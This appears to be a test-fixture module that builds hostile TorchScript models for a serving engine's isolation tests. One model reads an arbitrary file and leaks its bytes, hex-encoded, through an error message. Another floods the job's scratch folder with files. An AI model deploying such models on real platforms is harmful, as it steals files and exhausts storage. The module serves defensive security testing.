"""Hostile TorchScript models of the isolation tests (tests/security/test_isolation.py), built
in code: one reads a file into its error message, one floods its scratch folder with files."""

from __future__ import annotations

from pathlib import Path
from typing import List  # noqa: UP035 - TorchScript needs typing.List

import torch
from torch import nn


class Thief(nn.Module):
    """`forward` reads `size` bytes of `path` (aten::from_file, as the attack in issue 12 did)
    and fails with them in its message, which the engine passes on to the job's owner: an
    exfiltration channel that works whenever the read does."""

    def __init__(self, path: str, size: int):
        super().__init__()
        self.conv = nn.Conv2d(3, 4, 3)
        self.path = path
        self.size = size

    def forward(self, x):
        data = torch.from_file(self.path, False, self.size, dtype=torch.uint8)
        loot: List[int] = data.long().tolist()  # noqa: UP006
        digits = "0123456789abcdef"
        text = ""
        for value in loot:  # hex: the engine keeps 300 characters of a model's error
            text += digits[value // 16] + digits[value % 16]
        if self.size > 0:
            raise RuntimeError("LEAK[" + text + "]")
        return self.conv(x)


def leaked(detail: str) -> bytes | None:
    """The bytes a Thief got out through an error detail, if any."""
    start = detail.find("LEAK[")
    if start < 0:
        return None
    end = detail.index("]", start)
    return bytes.fromhex(detail[start + 5 : end])


class FileBomb(nn.Module):
    """`forward` writes `count` small files into its working folder (the job's scratch)."""

    def __init__(self, count: int):
        super().__init__()
        self.conv = nn.Conv2d(3, 4, 3)
        self.count = count

    def forward(self, x):
        for i in range(self.count):
            torch.save(torch.ones(1), "f" + str(i))
        return self.conv(x)


def save(module: nn.Module, path: Path) -> Path:
    torch.jit.script(module).save(str(path))
    return path
